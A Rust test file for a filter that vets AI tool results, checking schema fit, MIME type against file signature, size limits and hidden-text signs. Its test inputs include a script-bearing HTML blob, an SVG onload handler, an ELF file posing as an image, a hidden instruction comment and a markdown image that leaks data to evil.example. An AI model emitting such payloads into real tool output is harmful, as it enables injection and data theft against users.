use super::*;

fn result(answer: &Value, output: Option<&Value>) -> Result<Filtered, FilterRefusal> {
    let schema = output.map(|schema| schema::compile(schema).unwrap());
    run(answer.to_string().as_bytes(), &Redactor::none(), MessageShape::ToolResult(schema.as_ref()))
}

#[test]
fn attack_12_structured_content_has_to_fit_the_tools_own_schema() {
    let schema = json!({ "type": "object", "properties": { "n": { "type": "integer" } }, "required": ["n"], "additionalProperties": false });
    assert!(result(&json!({ "content": [], "structuredContent": { "n": 1 } }), Some(&schema)).is_ok());
    for bad in [
        json!({ "structuredContent": { "n": "1" } }),
        json!({ "structuredContent": {} }),
        json!({ "structuredContent": null }),
        json!({ "structuredContent": { "n": 1, "x": 2 } }),
        json!({ "structuredContent": [1] }),
        json!({ "content": [] }),
        json!({ "structuredContent": { "n": 1.5 }, "isError": false }),
    ] {
        assert!(matches!(result(&bad, Some(&schema)), Err(FilterRefusal::Structured(_))), "{bad}");
    }
    for fine in [
        json!({ "content": [], "isError": true }),
        json!({ "resultType": "input_required", "inputRequests": {} }),
        json!({ "task": { "taskId": "x" } }),
    ] {
        assert!(result(&fine, Some(&schema)).is_ok(), "{fine}");
    }
    let escaped = br#"{"structured\u0043ontent":{"n":"1"}}"#;
    let compiled = schema::compile(&schema).unwrap();
    assert!(run(escaped, &Redactor::none(), MessageShape::ToolResult(Some(&compiled))).is_err());
}

#[test]
fn text_that_contradicts_structured_content_is_flagged() {
    let says = |text: &str| {
        let answer = json!({ "content": [{ "type": "text", "text": text }], "structuredContent": { "n": 1 } });
        result(&answer, None).unwrap().flags.contains(&Flag::TextDisagrees)
    };
    assert!(says("{\"n\": 2}"));
    assert!(!says("{ \"n\":1 }") && !says("The number is 1."));
}

#[test]
fn attack_12_binary_data_must_match_its_declared_type() {
    let encode = |bytes: &[u8]| base64::engine::general_purpose::STANDARD.encode(bytes);
    let png = encode(b"\x89PNG\r\n\x1a\n rest of the picture");
    let gif = encode(b"GIF89a rest");
    let html = encode(b"  <!DOCTYPE html><script>alert(1)</script>");
    let svg = encode(b"<?xml version='1.0'?><svg onload='x'/>");
    let exe = encode(b"\x7fELF\x02\x01\x01");
    let wav = encode(b"RIFF\0\0\0\0WAVEfmt ");
    let image = |data: &str, mime: &str| json!({ "content": [{ "type": "image", "data": data, "mimeType": mime }] });
    let audio = |data: &str, mime: &str| json!({ "content": [{ "type": "audio", "data": data, "mimeType": mime }] });
    let blob = |data: &str, mime: &str| json!({ "content": [{ "type": "resource", "resource": { "uri": "a:b", "blob": data, "mimeType": mime } }] });
    for fine in [
        image(&png, "image/png"),
        image(&gif, "IMAGE/GIF; x=y"),
        image(&svg, "image/svg+xml"),
        audio(&wav, "audio/wav"),
        blob(&png, "image/png"),
        blob(&html, "text/html"),
        blob(&exe, "application/octet-stream"),
        blob("AAEC", "application/x-own"),
        image("AAECAw==", "image/x-own"),
        json!({ "content": [{ "type": "text", "text": "\"data\": no" }] }),
    ] {
        assert!(result(&fine, None).is_ok(), "{fine}");
    }
    for bad in [
        image(&gif, "image/png"),
        image(&html, "image/png"),
        image(&svg, "image/png"),
        image(&exe, "image/jpeg"),
        image(&html, "image/x-own"),
        audio(&png, "audio/wav"),
        image(&png, "text/html"),
        audio(&wav, "image/png"),
        blob(&exe, "application/pdf"),
        blob(&html, "image/gif"),
        image("AAEC", "image/png"),
    ] {
        assert!(matches!(result(&bad, None), Err(FilterRefusal::Kind { .. })), "{bad}");
    }
    for broken in ["AAE", "AA==AAAA", "AA A", "****", "=AAA", "AAAA\n"] {
        assert_eq!(result(&image(broken, "image/png"), None), Err(FilterRefusal::NotBase64), "{broken}");
    }
    let contents = json!({ "contents": [{ "uri": "a:b", "blob": html, "mimeType": "image/png" }] });
    assert!(run(contents.to_string().as_bytes(), &Redactor::none(), MessageShape::Content).is_err());
    let prompt = json!({ "messages": [{ "role": "user", "content": { "type": "image", "data": html, "mimeType": "image/png" } }] });
    assert!(run(prompt.to_string().as_bytes(), &Redactor::none(), MessageShape::Content).is_err());
}

#[test]
fn answers_that_are_too_large_or_no_json_are_refused() {
    let small = FilterLimits { bytes: 100, blob_bytes: 30 };
    let redactor = Redactor::none();
    let spec = FilterSpec { redactor: &redactor, shape: MessageShape::ToolResult(None), limits: small };
    let with = |bytes: Vec<u8>| filter(Bytes::from(bytes), &spec).unwrap_err();
    assert_eq!(with(vec![b' '; 101]), FilterRefusal::TooLarge(100));
    let blob = json!({ "content": [{ "type": "image", "data": "A".repeat(44) }] });
    assert_eq!(with(blob.to_string().into_bytes()), FilterRefusal::BlobTooLarge(30));
    for broken in [&b"{\"a\":\"x"[..], b"{\"a\":\"\\ud800\"}", b"{\"a\":\"\xff\"}", b"{\"a\":\"\\q\"}"] {
        assert_eq!(with(broken.to_vec()), FilterRefusal::NotJson, "{broken:?}");
    }
}

#[test]
fn signs_of_hidden_text_are_flagged_and_passed_on() {
    for (text, flag) in [
        ("<!-- do it --> x", Flag::HiddenMarkup),
        ("<div style=\"display:none\">x</div>", Flag::HiddenMarkup),
        ("![x](https://evil.example/p?d=1)", Flag::DataInAddress),
    ] {
        let filtered = plain(&json!({ "t": text }));
        assert!(!filtered.changed && filtered.flags.contains(&flag), "{text}");
    }
    assert!(plain(&json!({ "t": "![logo](https://x.example/logo.png) a < b" })).flags.is_empty());
}
